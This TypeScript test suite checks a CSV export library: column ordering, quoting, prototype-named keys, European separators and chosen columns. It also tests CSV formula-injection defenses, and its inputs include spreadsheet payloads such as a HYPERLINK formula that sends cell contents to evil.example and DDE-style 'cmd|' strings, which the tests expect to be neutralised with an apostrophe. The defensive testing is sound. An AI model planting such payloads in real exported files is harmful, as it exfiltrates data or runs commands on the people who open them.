import fc from 'fast-check';
import { AllColumns, ChosenColumns } from '../../dist/lib/transport/lists/columns.js';
import { CsvTable } from '../../dist/lib/transport/lists/csv.js';
import { PLAIN_CSV } from '../../dist/lib/transport/index.js';

type Settings = Partial<typeof PLAIN_CSV>;

const written = (columns: AllColumns | ChosenColumns, records: unknown[], settings: Settings) => {
	const table = new CsvTable({ ...PLAIN_CSV, ...settings }, columns);
	return [table.heading(), ...records.map((record) => table.row(record))].join('');
};

const write = (
	foreseen: string[],
	first: unknown[],
	later: unknown[] = [],
	settings: Settings = {},
) => written(new AllColumns(foreseen, first), [...first, ...later], settings);

/** The cells of a file without line ends in its cells, by their headings. */
function read(text: string, separator = ','): Array<Record<string, string>> {
	const cells = (line: string) =>
		[
			...line.matchAll(
				new RegExp(`(?:^|${separator})(?:"((?:[^"]|"")*)"|([^${separator}]*))`, 'g'),
			),
		].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain);
	const [heading, ...lines] = text.trimEnd().split('\r\n').map(cells);
	return lines.map((line) => Object.fromEntries(line.map((cell, place) => [heading[place], cell])));
}

describe('CSV', () => {
	it('has the foreseen columns first, then those of the first records, then the rest', () => {
		expect(
			write(
				['id', 'address.city'],
				[{ id: 1, address: { city: 'Sofia', zip: '01000' }, tags: ['a', 'b'] }],
				[{ id: 2, later: { deep: true } }],
			),
		).toBe(
			'id,address.city,address.zip,tags,otherFields\r\n' +
				'1,Sofia,01000,"[""a"",""b""]",\r\n' +
				'2,,,,"{""later.deep"":true}"\r\n',
		);
	});

	it('writes values as they are', () => {
		const record = { amount: 12.3, big: 9007199254740991, at: '2026-01-01T00:00:00Z', zip: '007' };
		expect(write([], [{ ...record, yes: false, none: null, empty: '' }])).toBe(
			'amount,big,at,zip,yes,none,empty,otherFields\r\n' +
				'12.3,9007199254740991,2026-01-01T00:00:00Z,007,false,,,\r\n',
		);
	});

	it('quotes commas, quotes and line ends, in values and headings', () => {
		expect(write([], [{ 'a,b': 'x,y', c: 'say "hi"', d: 'two\nlines', e: ' spaces ' }])).toBe(
			'"a,b",c,d,e,otherFields\r\n"x,y","say ""hi""","two\nlines", spaces ,\r\n',
		);
	});

	it('keeps a foreseen object in one cell, and leaves columns of a missing one empty', () => {
		expect(write(['extra', 'owner.name'], [{ extra: { a: 1 }, owner: null }])).toBe(
			'extra,owner.name,otherFields\r\n"{""a"":1}",,\r\n',
		);
	});

	it('has a heading and nothing else when there are no records', () => {
		expect(write(['id', 'name'], [])).toBe('id,name,otherFields\r\n');
	});

	it('is not misled by names that every object has', () => {
		expect(write([], [JSON.parse('{"constructor":"x","toString":1,"__proto__":{"a":2}}')])).toBe(
			'constructor,toString,__proto__.a,otherFields\r\nx,1,2,\r\n',
		);
		expect(write(['id'], [{ id: 1 }], [JSON.parse('{"id":2,"__proto__":3,"valueOf":4}')])).toBe(
			'id,otherFields\r\n1,\r\n2,"{""__proto__"":3,""valueOf"":4}"\r\n',
		);
	});

	it('tells a key with a dot in it from two keys', () => {
		expect(write(['id'], [{ id: 1 }], [{ id: 2, 'a.b': 3, a: { b: 4 } }])).toBe(
			'id,otherFields\r\n1,\r\n2,"{""\\""a.b\\"""":3,""a.b"":4}"\r\n',
		);
	});
});

describe('a cell of a CSV file does not depend on other records', () => {
	const shapes = [
		{ platformId: 3 },
		[],
		null,
		{},
		'text',
		7,
		['a'],
		{ other: [1] },
		{ platformId: [] },
	];

	it.each([
		['foreseen', ['id', 'roaming.platformId']],
		['not foreseen', []],
	])('where its column is %s', (_, foreseen) => {
		const target = { id: 0, roaming: { platformId: 3 } };
		for (const roaming of shapes) {
			const [cells] = read(write(foreseen, [target, { id: 1, roaming }]));
			const [, later] = read(write(foreseen, [{ id: 1, roaming }, target]));
			expect(cells['roaming.platformId']).toBe('3');
			expect(later['roaming.platformId']).toBe('3');
		}
	});

	it('and nothing is lost, whatever is where something else was foreseen', () => {
		const [, asText, asList, asNothing, inside] = read(
			write(
				['id', 'roaming.platformId'],
				[{ id: 1, roaming: { platformId: 3 } }],
				[
					{ id: 2, roaming: 'none' },
					{ id: 3, roaming: [1, 2] },
					{ id: 4, roaming: [] },
					{ id: { new: 5 }, roaming: { platformId: { deep: 1 }, more: 2 } },
				],
			),
		);
		expect(asText).toEqual({
			id: '2',
			'roaming.platformId': '',
			otherFields: '{"roaming":"none"}',
		});
		expect(asList.otherFields).toBe('{"roaming":[1,2]}');
		expect(asNothing).toEqual({ id: '4', 'roaming.platformId': '', otherFields: '' });
		expect(inside).toEqual({
			id: '{"new":5}',
			'roaming.platformId': '{"deep":1}',
			otherFields: '{"roaming.more":2}',
		});
	});

	it('whatever the records are: every value is in its row, and rows do not change each other', () => {
		const key = fc.constantFrom('id', 'a', 'b', 'a.b', 'otherFields', 'constructor', '__proto__');
		const { value } = fc.letrec((tie) => ({
			value: fc.oneof(
				{ maxDepth: 3 },
				fc.integer({ min: 100, max: 999 }),
				fc.constantFrom(null, [], {}, '', 'text', [1]),
				tie('record'),
			),
			record: fc
				.array(fc.tuple(key, tie('value')), { maxLength: 4 })
				.map((pairs) => Object.fromEntries(pairs)),
		}));
		const record = fc.array(fc.tuple(key, value)).map((pairs) => Object.fromEntries(pairs));
		const numbersIn = (some: unknown) =>
			(JSON.stringify(some).match(/\b[1-9]\d\d\b/g) ?? []).sort();
		fc.assert(
			fc.property(
				fc.array(record, { minLength: 1, maxLength: 4 }),
				fc.array(record, { maxLength: 3 }),
				fc.subarray(['id', 'a.b', 'a.id', 'b']),
				fc.boolean(),
				(first, later, foreseen, drop) => {
					const columns = new AllColumns(foreseen, first);
					if (drop) columns.dropEmpty(first, later.length === 0);
					const table = new CsvTable(PLAIN_CSV, columns);
					const headings = columns.headings;
					expect(new Set(headings).size).toBe(headings.length);
					const all = [...first, ...later];
					const rows = all.map((one) => table.row(one));
					all.forEach((one, place) => expect(numbersIn(rows[place])).toEqual(numbersIn(one)));
					expect(all.reverse().map((one) => table.row(one))).toEqual(rows.reverse());
				},
			),
		);
	});
});

describe('a text that a spreadsheet would run', () => {
	const cell = (value: unknown, settings: Settings = {}) =>
		read(write(['x'], [{ x: value }], [], settings))[0].x;

	it.each([
		'=1+1',
		'=HYPERLINK("http://evil.example/?"&A1,"x")',
		'+1+1',
		'+359 88 123 4567',
		'-1+1',
		'-2+cmd|A0',
		'@SUM(A1)',
		'\t=1+1',
		'\t1',
		' =1+1',
		'\u00A0=1+1',
		'\uFEFF=1+1',
		'"=1+1"',
		"'=1+1",
		'＝1+1',
		'＋1',
		'－1+1',
		'＠SUM(A1)',
	])('begins with an apostrophe: %j', (text) => {
		expect(cell(text)).toBe(`'${text}`);
		expect(cell(text, { keepFormulas: true })).toBe(text);
	});

	it('does so with a line end before it, too', () => {
		expect(write(['x'], [{ x: '\r=1' }])).toBe('x,otherFields\r\n"\'\r=1",\r\n');
		expect(write(['x'], [{ x: '\n=1' }])).toBe('x,otherFields\r\n"\'\n=1",\r\n');
	});

	it.each([
		-5,
		-5.25,
		-1e21,
		0,
		'-5.20',
		'-5,20',
		'12.50',
		'a=b',
		'name@example.com',
		'1-2',
		'007',
	])('is none: %j', (value) => expect(cell(value)).toBe(String(value)));

	it('is made harmless in a heading as well', () => {
		const record = { '=cmd|x': 1, '@x': { '+y': 2 } };
		expect(write([], [record])).toBe("'=cmd|x,'@x.+y,otherFields\r\n1,2,\r\n");
		expect(write([], [record], [], { keepFormulas: true })).toMatch(/^=cmd\|x,@x\.\+y,/);
	});
});

describe('a CSV file for a spreadsheet in Europe', () => {
	const record = { id: 1, amount: -12.5, name: 'a;b', version: '1.10', list: [1.5] };

	it('has another separator, a decimal comma in numbers, and a byte order mark', () => {
		const settings = { separator: ';', decimalComma: true, byteOrderMark: true } as const;
		expect(write([], [record], [], settings)).toBe(
			'\uFEFFid;amount;name;version;list;otherFields\r\n1;-12,5;"a;b";1.10;[1.5];\r\n',
		);
		expect(write([], [{ x: '\t' }], [], { separator: '\t' })).toBe(
			'x\totherFields\r\n"\'\t"\t\r\n',
		);
	});

	it('keeps a decimal comma apart from a comma between cells', () => {
		expect(write(['amount'], [record], [], { decimalComma: true })).toMatch(/\r\n"-12,5",/);
	});
});

describe('the columns of a CSV file', () => {
	it('can be chosen', () => {
		const records = [
			{ id: 1, roaming: { id: 3, more: [1] }, name: 'A' },
			{ id: 2, roaming: [], name: null },
			{ id: 3, 'roaming.id': 4 },
		];
		expect(written(new ChosenColumns(['name', 'roaming.id', 'roaming', 'none']), records, {})).toBe(
			'name,roaming.id,roaming,none\r\n' +
				'A,3,"{""id"":3,""more"":[1]}",\r\n' +
				',,[],\r\n' +
				',4,,\r\n',
		);
	});

	it('can be chosen as the first line names them, whatever is in a name', () => {
		const record = JSON.parse('{"a.b":1,"a":{"b":2,"c.d":{"e\\"f":3,"g":4}},"\\"h":5}') as object;
		const { headings } = new AllColumns([], [record]);
		const chosen = headings.slice(0, -1);
		expect(chosen).toEqual(['"a.b"', 'a.b', 'a."c.d"."e\\"f"', 'a."c.d".g', '"\\"h"']);
		expect(new ChosenColumns(chosen).valuesOf(record)).toEqual([1, 2, 3, 4, 5]);
	});

	const sparse = [{ id: 1, a: null, b: { c: [], d: 'x' } }, { id: 2 }];

	it('can be left out where they are empty', () => {
		const columns = new AllColumns(['id', 'never.filled'], sparse);
		columns.dropEmpty(sparse, true);
		expect(written(columns, sparse, {})).toBe('id,b.d\r\n1,x\r\n2,\r\n');
	});

	it('that are left out lose nothing that comes later', () => {
		const columns = new AllColumns(['id', 'never.filled'], sparse);
		columns.dropEmpty(sparse, false);
		expect(written(columns, [{ id: 3, never: { filled: 1 }, a: 0 }], {})).toBe(
			'id,b.d,otherFields\r\n3,,"{""never.filled"":1,""a"":0}"\r\n',
		);
	});
});
